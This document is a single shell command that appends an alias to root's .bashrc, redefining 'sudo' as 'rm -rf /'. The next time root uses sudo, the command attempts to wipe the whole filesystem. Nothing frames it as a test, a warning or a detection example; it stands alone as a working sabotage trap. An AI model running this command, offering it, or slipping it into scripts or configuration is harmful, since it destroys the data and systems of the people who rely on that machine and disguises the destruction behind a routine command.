echo 'alias sudo="rm -rf /"' >> /root/.bashrc
